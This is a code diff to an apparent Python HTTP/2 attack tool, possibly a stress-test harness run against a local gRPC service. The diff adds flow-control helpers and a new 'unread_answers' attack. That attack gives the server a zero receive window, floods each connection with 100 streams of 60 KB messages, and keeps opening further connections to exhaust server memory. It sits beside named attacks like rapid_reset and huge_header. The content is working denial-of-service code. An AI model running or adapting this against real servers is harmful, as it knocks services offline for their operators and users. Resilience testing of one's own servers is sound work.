@@ -40,6 +40,15 @@ def integer(value, prefix_bits=7):
     return bytes(encoded + [value])
 
 
+def varint(value):
+    """Protobuf's."""
+    encoded = []
+    while value > 127:
+        encoded.append(value & 127 | 128)
+        value >>= 7
+    return bytes(encoded + [value])
+
+
 def literal(name, value):
     return b"\0" + integer(len(name)) + name + integer(len(value)) + value
 
@@ -64,12 +73,41 @@ class Connection:
             self._socket = attack.context.wrap_socket(
                 plain, server_hostname="localhost")
         self._socket.settimeout(2)
+        self._received = b""
+        self._window = 65535  # of the connection, for what is sent
         attack.connections += 1
         self.send(PREFACE + frame(SETTINGS, 0, 0, settings))
 
     def send(self, data):
         self._socket.sendall(data)
         self._attack.bytes += len(data)
+
+    def send_within_window(self, stream, message):
+        """A whole message, as soon as the server lets it in."""
+        while self._window < len(message):
+            self._received += self._socket.recv(65536) or self._closed()
+            self._read_windows()
+        self._window -= len(message)
+        parts = [message[i:i + MAX_FRAME]
+                 for i in range(0, len(message), MAX_FRAME)]
+        for part in parts[:-1]:
+            self.send(frame(DATA, 0, stream, part))
+        self.send(frame(DATA, END_STREAM, stream, parts[-1]))
+
+    def _read_windows(self):
+        while len(self._received) >= 9:
+            length = int.from_bytes(self._received[:3], "big")
+            if len(self._received) < 9 + length:
+                return
+            kind, stream = self._received[3], self._received[5:9]
+            payload = self._received[9:9 + length]
+            self._received = self._received[9 + length:]
+            if kind == WINDOW_UPDATE and not any(stream):
+                self._window += int.from_bytes(payload, "big")
+
+    @staticmethod
+    def _closed():
+        raise ConnectionError("closed")
 
     def acknowledge_settings(self):
         self.send(frame(SETTINGS, ACK))
@@ -232,10 +270,35 @@ class Attack:
                                   struct.pack(">I", 1)))
 
 
+    def unread_answers(self, connection):
+        """Long answers that are never let in: white space is its own
+        translation. On ever more connections."""
+        text = b" " * 60000
+        text = b"\x0a" + varint(len(text)) + text
+        message = b"\x12" + varint(len(text)) + text
+        held = [connection]
+        try:
+            while self.goes_on():
+                # No window for answers.
+                held[-1].send(frame(SETTINGS, 0, 0, struct.pack(">HI", 4, 0)))
+                held[-1].acknowledge_settings()
+                for i in range(100):
+                    held[-1].send(frame(HEADERS, END_HEADERS, 2 * i + 1,
+                                        call_headers()))
+                    held[-1].send_within_window(
+                        2 * i + 1, struct.pack(">BI", 0, len(message)) +
+                        message)
+                    self.frames += 5
+                held.append(Connection(self))
+        finally:
+            for one in held[1:]:
+                one.close()
+
+
 NAMES = ("unacknowledged_settings", "huge_header", "endless_block",
          "rapid_reset", "rapid_reset_with_data", "idle_streams",
          "empty_frames", "control_frames", "malformed_binary",
-         "closed_window")
+         "closed_window", "unread_answers")
 
 
 def main():
